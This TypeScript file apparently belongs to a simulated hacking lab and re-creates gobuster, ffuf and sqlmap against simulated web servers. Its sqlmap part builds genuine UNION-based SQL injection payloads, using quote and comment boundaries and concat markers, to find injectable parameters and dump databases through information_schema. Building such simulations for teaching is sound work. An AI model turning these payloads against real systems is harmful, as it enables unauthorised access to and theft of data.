/** Tools that try a web server: which of a list's paths it has, and whether what it is sent becomes part of a query. */
import { FileError, fileWords, diskText } from '../disk.ts'
import type { Cmd, Program, Programs } from '../program.ts'
import type { WebRequest, WebResponse } from '../serve/http.ts'
import { at } from './files.ts'
import { connectToPort, overheard, type Reached } from './ports.ts'
import { linesOf } from './text.ts'
import { fetched, urlPortOf, urlOf } from './web.ts'

const most = 5000
const bar = `${'='.repeat(63)}\n`

interface Place {
  met: Reached
  url: URL
  port: number
}
/** The server behind an address, or why there is none. */
async function placeOf(c: Cmd, text: string): Promise<Place | { why: string }> {
  const url = urlOf(text)
  if (!url || !/^https?:$/.test(url.protocol)) return { why: `invalid URL ${text}` }
  const met = await connectToPort(c, url.hostname, urlPortOf(url))
  return 'why' in met ? { why: met.why } : { met, url, port: urlPortOf(url) }
}
/** The words of a list, or why there are none. */
function wordsOf(c: Cmd, list: string): { all: string[] } | { why: string } {
  try {
    const text = diskText(c.shell.disk.read(at(c, list), c.shell.user))
    return { all: linesOf(text).filter((l) => l !== '' && !l.startsWith('#')) }
  } catch (e) {
    if (!(e instanceof FileError)) throw e
    return { why: fileWords[e.code] }
  }
}
const asking = (path: string, more: Partial<WebRequest> = {}): WebRequest => ({
  method: 'GET',
  path,
  query: new URLSearchParams(),
  body: '',
  headers: new Map(),
  ...more,
})

const gobuster: Program = {
  about: 'try the paths of a list at a web server',
  use: 'gobuster dir -u url -w list [-x ext,ext] [-b codes] [-c cookies] [-o file] [-q]',
  more: `  -u url         where
  -w list        the words; lists are in /usr/share/wordlists (dirs.txt)
  -x txt,php     each word with these endings as well
  -b 404,403     codes that are not shown; 404 where nothing is said
  -c cookies     what is sent with each
  -o file        what was found goes to a file as well
  -q             only what was found
`,
  knows:
    'u:/url w:/wordlist x:/extensions b:/status-codes-blacklist c:/cookies o:/output q/quiet ~t:/threads ~k/no-tls-validation',
  async run(c) {
    const { o } = c
    if (o.rest[0] !== 'dir') {
      c.err(`gobuster: only the mode "dir" is on this simulated machine\nusage: ${c.use}\n`)
      return 1
    }
    const [to, list] = [o.value('u'), o.value('w')]
    if (to === undefined || list === undefined) {
      c.err(`Error: required flag(s) "${to === undefined ? 'url' : 'wordlist'}" not set\n`)
      return 1
    }
    const words = wordsOf(c, list)
    if ('why' in words) {
      c.err(`Error: wordlist file "${list}": ${words.why}\n`)
      return 1
    }
    const place = await placeOf(c, to)
    if ('why' in place) {
      c.err(`Error: error on running gobuster: unable to connect to ${to}: ${place.why}\n`)
      return 1
    }
    const endings = ['', ...(o.value('x')?.split(',') ?? []).map((x) => `.${x.trim().replace(/^\./, '')}`)]
    const hidden = new Set((o.value('b') ?? '404').split(',').map((n) => Number(n.trim())))
    const base = place.url.pathname.replace(/\/$/, '')
    const tell = (text: string) => o.has('q') || c.out(text)
    tell(`${bar}Gobuster v3.6\nby OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)\n${bar}`)
    tell(
      `[+] Url:                     ${place.url.href}\n[+] Method:                  GET\n[+] Wordlist:                ${list}\n[+] Negative Status codes:   ${[...hidden].join(',')}\n${bar}`,
    )
    tell(`Starting gobuster in directory enumeration mode\n${bar}`)
    const headers = new Map([
      ['user-agent', 'gobuster/3.6'],
      ...(o.has('c') ? [['cookie', o.value('c') ?? ''] as const] : []),
    ])
    const found: string[] = []
    let tries = 0
    for (const word of words.all)
      for (const end of endings) {
        if (++tries > most) {
          c.err(`Error: stopped after ${most} requests\n`)
          return 1
        }
        if (tries % 20 === 0 && !(await c.sleep(20))) return 130
        const path = `${base}/${word.replace(/^\//, '')}${end}`
        const got = await fetched(c, place.met, asking(path, { headers }))
        if (hidden.has(got.status)) continue
        const moved = got.headers.find(([n]) => n === 'Location')?.[1]
        const line = `${path.slice(base.length).padEnd(20)} (Status: ${got.status}) [Size: ${got.body.length}]${moved === undefined ? '' : ` [--> ${new URL(moved, place.url).href}]`}\n`
        found.push(line)
        c.out(line)
      }
    overheard(c, place.met, place.port, [
      [
        '>',
        `GET ${base}/ HTTP/1.1\r\nUser-Agent: gobuster/3.6\r\n${o.has('c') ? `Cookie: ${o.value('c')}\r\n` : ''}\r\n`,
      ],
      ['<', `${tries} answers\r\n`],
    ])
    tell(`${bar}Finished\n${bar}`)
    return written(c, found)
  },
}

/** What was found goes to the file that `-o` names as well. */
function written(c: Cmd, found: readonly string[]): number {
  const file = c.o.value('o')
  if (file === undefined) return 0
  try {
    c.shell.disk.write(at(c, file), Buffer.from(found.join('')), c.shell.user)
    return 0
  } catch (e) {
    if (!(e instanceof FileError)) throw e
    c.err(`Error: ${file}: ${fileWords[e.code]}\n`)
    return 1
  }
}

/** Numbers and spans of them, as `200-299,301`; undefined for anything else. */
function numbersOf(text: string): ((n: number) => boolean) | undefined {
  const spans = text.split(',').map((p) => /^(\d+)(?:-(\d+))?$/.exec(p.trim()))
  if (text === 'all') return () => true
  if (spans.some((s) => !s)) return undefined
  return (n) => spans.some((s) => n >= Number(s?.[1]) && n <= Number(s?.[2] ?? s?.[1]))
}

const fuzz = 'FUZZ'
const ffuf: Program = {
  about: 'put the words of a list in the place of FUZZ: in an address, a header, a form',
  use: 'ffuf -u url -w list [-e .ext,.ext] [-X method] [-d data] [-H "Name: value"] [-b cookies] [-mc codes] [-fc codes] [-fs sizes] [-o file] [-s]',
  more: `  -u url              where; FUZZ stands where each word goes
  -w list             the words; lists are in /usr/share/wordlists (dirs.txt)
  -e .txt,.php        each word with these endings as well
  -X method, -d data  another method than GET; a form that is sent
  -H "Name: value", -b 'k=v'   what is sent with each request
  -mc 200,301         codes that are shown, or all; 200-299,301,302,307,401,403,405,500 where nothing is said
  -fc 403, -fs 42     codes and sizes that are not shown
  -o file             what was found goes to a file as well
  -s                  only the words
`,
  knows: 'u: w: e: X: d: H: b: /mc: /fc: /fs: o: s ~t: ~c ~k',
  spelled: (args) => args.map((a) => (/^-(mc|fc|fs)$/.test(a) ? `-${a}` : a)),
  async run(c) {
    const { o } = c
    const [to, list] = [o.value('u'), o.value('w')]
    const wrong = (text: string): number => {
      c.err(`Encountered error(s): 1 errors occurred.\n\t* ${text}\n`)
      return 1
    }
    if (to === undefined) return wrong('-u flag or -request flag is required')
    if (list === undefined) return wrong('Either -w or --input-cmd flag is required')
    const given = [to, o.value('d') ?? '', o.value('X') ?? '', o.value('b') ?? '', ...o.all('H')]
    if (!given.some((g) => g.includes(fuzz)))
      return wrong(`Keyword ${fuzz} defined, but not found in headers, method, URL or POST data.`)
    const filters = [
      o.value('mc') ?? '200-299,301,302,307,401,403,405,500',
      o.value('fc') ?? '',
      o.value('fs') ?? '',
    ].map((f) => (f === '' ? () => false : numbersOf(f)))
    const [matched, code, size] = filters
    if (!matched || !code || !size) return wrong('a filter or matcher takes numbers and ranges only')
    const words = wordsOf(c, list)
    if ('why' in words) return wrong(`open ${list}: ${words.why}`)
    const place = await placeOf(c, to.replaceAll(fuzz, 'x'))
    if ('why' in place) return wrong(`${to}: ${place.why}`)
    const endings = ['', ...(o.value('e')?.split(',') ?? []).map((x) => x.trim())]
    if (!o.has('s'))
      c.out(
        `\n :: Method           : ${methodOf(c)}\n :: URL              : ${to}\n :: Wordlist         : FUZZ: ${list}\n${'_'.repeat(48)}\n\n`,
      )
    const found: string[] = []
    let tries = 0
    for (const word of words.all.flatMap((w) => endings.map((e) => w + e))) {
      if (++tries > most) return wrong(`stopped after ${most} requests`)
      if (tries % 20 === 0 && !(await c.sleep(20))) return 130
      const put = (text: string) => text.replaceAll(fuzz, () => word)
      const url = urlOf(to.replaceAll(fuzz, () => encodeURIComponent(word).replaceAll('%2F', '/')))
      if (!url || url.host !== place.url.host) continue
      const headers = new Map([
        ['user-agent', 'Fuzz Faster U Fool v2.1.0'],
        ...(o.has('b') ? [['cookie', put(o.value('b') ?? '')] as const] : []),
        ...o.all('H').map((h): [string, string] => {
          const [name = '', ...value] = put(h).split(':')
          return [name.trim().toLowerCase(), value.join(':').trim()]
        }),
      ])
      const got = await fetched(
        c,
        place.met,
        asking(url.pathname, {
          method: put(methodOf(c)),
          query: url.searchParams,
          body: put(o.value('d') ?? ''),
          headers,
        }),
      )
      if (!matched(got.status) || code(got.status) || size(got.body.length)) continue
      const text = got.body.toString('utf8')
      const line = `${word.padEnd(24)} [Status: ${got.status}, Size: ${got.body.length}, Words: ${text.split(' ').length}, Lines: ${text.split('\n').length}]\n`
      found.push(line)
      c.out(o.has('s') ? `${word}\n` : line)
    }
    overheard(c, place.met, place.port, [
      [
        '>',
        `${methodOf(c)} ${place.url.pathname} HTTP/1.1\r\nUser-Agent: Fuzz Faster U Fool v2.1.0\r\n${o.has('b') ? `Cookie: ${o.value('b')}\r\n` : ''}${o
          .all('H')
          .map((h) => `${h}\r\n`)
          .join('')}\r\n`,
      ],
      ['<', `${tries} answers\r\n`],
    ])
    if (!o.has('s')) c.out(`:: Progress: [${tries}/${tries}] ::\n`)
    return written(c, found)
  },
}
const methodOf = (c: Cmd): string => c.o.value('X') ?? (c.o.has('d') ? 'POST' : 'GET')

/** What stands around a value in a query. */
const boundaries: readonly (readonly [before: string, behind: string])[] = [
  ["'", '-- -'],
  ['', '-- -'],
  ["')", '-- -'],
]
const [begins, parts, ends] = ['qzbvq', 'qkkxq', 'qpjzq'] as const
const faults = /You have an error in your SQL syntax|different number of columns|Unknown column/

interface Hole {
  name: string
  /** Sends what stands for the value, and reads what comes of it. */
  send(value: string): Promise<WebResponse>
  boundary: readonly [string, string]
  columns: number
}

const sqlmap: Program = {
  about: 'find and use a query that takes what it is sent',
  use: 'sqlmap -u url [--data=…] [-p name] [--cookie=…] [--second-url=url] [--dbs|--tables|--columns|--dump] [-D db] [-T table] [--batch]',
  more: `  -u url              where, with its parameters
  --data='a=b'        a form that is sent instead
  -p name             only this parameter
  --cookie='k=v'      what is sent with each request
  --second-url=url    where what was sent before is read again
  --dbs, --tables, --columns, --dump
  -D db, -T table     only of these
  --batch             takes the usual answer to each question
`,
  knows:
    'u:/url /data: p: /cookie: /second-url: /dbs /tables /columns /dump D: T: /batch ~/flush-session ~/level: ~/risk:',
  async run(c) {
    const { o } = c
    const log = (kind: string, text: string) =>
      c.out(`[${c.shell.now().toISOString().slice(11, 19)}] [${kind}] ${text}\n`)
    const place = await placeOf(c, o.value('u') ?? '')
    c.out('sqlmap/1.7.2#stable - https://sqlmap.org\n\n')
    if ('why' in place) {
      log('CRITICAL', `unable to connect to the target URL (${place.why})`)
      return 1
    }
    const data = o.value('data')
    const names = [...new URLSearchParams(data ?? place.url.search).keys()]
    const tried = o.has('p') ? names.filter((n) => n === o.value('p')) : names
    if (!tried.length) {
      log(
        'CRITICAL',
        "no parameter(s) found for testing in the provided data (e.g. GET parameter 'id' in 'www.site.com/index.php?id=1')",
      )
      return 1
    }
    const second = o.has('second-url') ? await placeOf(c, o.value('second-url') ?? '') : undefined
    if (second && 'why' in second) {
      log('CRITICAL', `unable to connect to the second URL (${second.why})`)
      return 1
    }
    let [requests, own, asked] = [0, '', false]
    const sender =
      (name: string) =>
      async (value: string): Promise<WebResponse> => {
        requests++
        await c.sleep(4)
        const fields = new URLSearchParams(data ?? place.url.search)
        fields.set(name, value)
        const cookie = [o.value('cookie'), own].filter(Boolean).join('; ')
        const headers = new Map([
          ['user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
          ...(cookie ? [['cookie', cookie] as const] : []),
        ])
        const got = await fetched(
          c,
          place.met,
          asking(
            place.url.pathname,
            data === undefined ? { query: fields, headers } : { method: 'POST', body: fields.toString(), headers },
          ),
        )
        const set = got.headers.find(([n]) => n === 'Set-Cookie')?.[1]?.split(';')[0]
        if (set !== undefined && !asked) {
          asked = true
          const said = o.has('batch')
            ? 'Y'
            : await c.ask(
                `you have not declared cookie(s), while server wants to set its own ('${set.slice(0, 24)}...'). Do you want to use those [Y/n] `,
              )
          if (o.has('batch'))
            c.out(
              `you have not declared cookie(s), while server wants to set its own ('${set.slice(0, 24)}...'). Do you want to use those [Y/n] Y\n`,
            )
          if (/^n/i.test(said ?? '')) own = ' '
        }
        if (set !== undefined && own !== ' ') own = set
        if (!second) return got
        const again = [o.value('cookie'), own.trim()].filter(Boolean).join('; ')
        return fetched(
          c,
          second.met,
          asking(second.url.pathname, {
            query: second.url.searchParams,
            headers: new Map(again ? [['cookie', again]] : []),
          }),
        )
      }
    log('INFO', 'testing connection to the target URL')
    let hole: Hole | undefined
    for (const name of tried) {
      log('INFO', `testing if ${data === undefined ? 'GET' : 'POST'} parameter '${name}' is injectable`)
      hole = await holeOf(name, sender(name), new URLSearchParams(data ?? place.url.search).get(name) ?? '1')
      if (hole) break
      log('WARNING', `${data === undefined ? 'GET' : 'POST'} parameter '${name}' does not seem to be injectable`)
    }
    overheard(c, place.met, place.port, [
      [
        '>',
        `${data === undefined ? 'GET' : 'POST'} ${place.url.pathname} HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n${o.has('cookie') ? `Cookie: ${o.value('cookie')}\r\n` : ''}\r\n`,
      ],
      ['<', `${requests} answers\r\n`],
    ])
    if (!hole) {
      log('CRITICAL', 'all tested parameters do not appear to be injectable.')
      return 1
    }
    c.out(
      `sqlmap identified the following injection point(s) with a total of ${requests} HTTP(s) requests:\n---\nParameter: ${hole.name} (${data === undefined ? 'GET' : 'POST'})\n    Type: UNION query\n    Title: Generic UNION query (NULL) - ${hole.columns} column${hole.columns === 1 ? '' : 's'}\n---\n`,
    )
    log('INFO', 'the back-end DBMS is MySQL')
    c.out('back-end DBMS: MySQL (MariaDB fork)\n')
    const open = hole
    const ask = (columns: readonly string[], from: string) => rowsOf(open, columns, from)
    const where = o.has('D') ? ` WHERE table_schema = '${(o.value('D') ?? '').replaceAll("'", '')}'` : ''
    if (o.has('dbs')) {
      const all = [...new Set((await ask(['table_schema'], 'information_schema.tables')).map(([n]) => n))]
      c.out(`available databases [${all.length}]:\n${all.map((n) => `[*] ${n}\n`).join('')}\n`)
    }
    if (!o.has('tables') && !o.has('columns') && !o.has('dump')) return 0
    const all = (await ask(['table_schema', 'table_name'], `information_schema.tables${where}`)).filter(
      ([, n]) => !o.has('T') || n === o.value('T'),
    )
    if (!all.length) {
      log('CRITICAL', 'unable to retrieve the table names')
      return 1
    }
    if (o.has('tables'))
      c.out(
        `Database: ${all[0]?.[0]}\n[${all.length} table${all.length === 1 ? '' : 's'}]\n${table(all.map(([, n = '']) => [n]))}\n`,
      )
    if (!o.has('columns') && !o.has('dump')) return 0
    for (const [database = '', name = ''] of all) {
      const columns = (await ask(['column_name'], `information_schema.columns WHERE table_name = '${name}'`)).map(
        ([n = '']) => n,
      )
      if (o.has('columns'))
        c.out(
          `Database: ${database}\nTable: ${name}\n[${columns.length} column${columns.length === 1 ? '' : 's'}]\n${table([['Column'], ...columns.map((n) => [n])], true)}\n`,
        )
      if (!o.has('dump')) continue
      const rows = await ask(columns, name)
      c.out(
        `Database: ${database}\nTable: ${name}\n[${rows.length} entr${rows.length === 1 ? 'y' : 'ies'}]\n${table([columns, ...rows], true)}\n`,
      )
    }
    return 0
  },
}

/** Whether a value becomes part of a query whose rows are shown, and how many columns it has. */
async function holeOf(name: string, send: Hole['send'], value: string): Promise<Hole | undefined> {
  for (const boundary of boundaries)
    for (let columns = 1; columns <= 8; columns++) {
      const row = Array.from({ length: columns }, (_, i) => `concat('${begins}','${i}','${ends}')`).join(',')
      const got = (await send(`${value}${boundary[0]} UNION ALL SELECT ${row}${boundary[1]}`)).body.toString('utf8')
      if (got.includes(`${begins}0${ends}`) && !faults.test(got)) return { name, send, boundary, columns }
    }
  return undefined
}
/** Rows of a table through the hole: all columns in one cell, with marks between. */
async function rowsOf(hole: Hole, columns: readonly string[], from: string): Promise<string[][]> {
  const cell = `concat('${begins}',${columns.join(`,'${parts}',`)},'${ends}')`
  const row = [cell, ...Array.from({ length: hole.columns - 1 }, () => 'null')].join(',')
  const got = await hole.send(`-1${hole.boundary[0]} UNION ALL SELECT ${row} FROM ${from}${hole.boundary[1]}`)
  return [...got.body.toString('utf8').matchAll(new RegExp(`${begins}([\\s\\S]*?)${ends}`, 'g'))].map(([, text = '']) =>
    text.split(parts),
  )
}
function table(rows: readonly (readonly string[])[], headed = false): string {
  const widths = (rows[0] ?? []).map((_, i) => Math.max(...rows.map((r) => r[i]?.length ?? 0)))
  const line = `+${widths.map((w) => '-'.repeat(w + 2)).join('+')}+\n`
  const of = (r: readonly string[]) => `|${widths.map((w, i) => ` ${(r[i] ?? '').padEnd(w)} `).join('|')}|\n`
  const [head, ...others] = rows
  return headed && head
    ? `${line}${of(head)}${line}${others.map(of).join('')}${line}`
    : `${line}${rows.map(of).join('')}${line}`
}

export const probeCommands: Programs = { gobuster, ffuf, sqlmap }
